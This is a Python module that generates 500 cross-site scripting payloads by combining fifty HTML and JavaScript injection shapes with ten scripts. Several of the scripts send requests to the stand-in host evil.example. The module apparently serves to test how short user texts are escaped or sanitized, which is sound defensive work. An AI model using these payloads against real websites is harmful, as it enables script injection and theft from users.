"""Five hundred texts that would do something if any page ever took them for more than text."""

HOST = "evil.example"
SCRIPTS = (
    "hit(1)",
    "window.hit=1",
    "top['hi'+'t']=1",
    "fetch('//evil.example')",
    "import('//evil.example/x.js')",
    "eval('hi'+'t=1')",
    "new Image().src='//evil.example/p'",
    "location='//evil.example/l'",
    "document.body.innerHTML=1",
    "navigator.sendBeacon('//evil.example')",
)
SHAPES = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    '"><script>{}</script>',
    "'><img src=x onerror={}>",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    '<iframe srcdoc="<script>{}</script>">',
    "<iframe src=javascript:{}>",
    "<a href=javascript:{}>click</a>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>x</details>",
    "<video><source onerror={}>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<form action=javascript:{}><button>x</button></form>",
    "<math><mtext><script>{}</script></mtext></math>",
    "<base href=//evil.example/><script>{}</script>",
    "javascript:{}",
    "${{{}}}",
    "{{{{{}}}}}",
    "`{}`",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "&lt;script&gt;{}&lt;/script&gt;",
    "%3Cscript%3E{}%3C/script%3E",
    "<style>@import '//evil.example/{}';</style>",
    "<link rel=stylesheet href=//evil.example/{}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<scr<script>ipt>{}</script>",
    "<SCRIPT SRC=//evil.example/{}></SCRIPT>",
    "<template><script>{}</script></template>",
    '<noscript><p title="</noscript><script>{}</script>">',
    "<!--><script>{}</script>",
    "]]><script>{}</script>",
    "<marquee onstart={}>",
    "<select autofocus onfocus={}>",
    "<button popovertarget=x onclick={}>",
    '<div style="background:url(javascript:{})">',
    "<x contenteditable autofocus onfocus={}>",
    "<audio src onerror={}>",
    "<svg><animate onbegin={} attributeName=x>",
    "<a ping=//evil.example/{} href=#>x</a>",
    "<img srcset=//evil.example/{}>",
    "<portal src=javascript:{}>",
    "__proto__[{}]",
    "constructor.constructor('{}')()",
    '" onmouseover={} x="',
    "' autofocus onfocus={} '",
)


def payloads(host: str = HOST) -> list[str]:
    """Each at most as long as a text may be; what they would ask for is asked of `host`."""
    found = [shape.format(script).replace(HOST, host) for shape in SHAPES for script in SCRIPTS]
    assert max(len(each) for each in found) <= 280
    assert 500 == len(set(found))
    return found
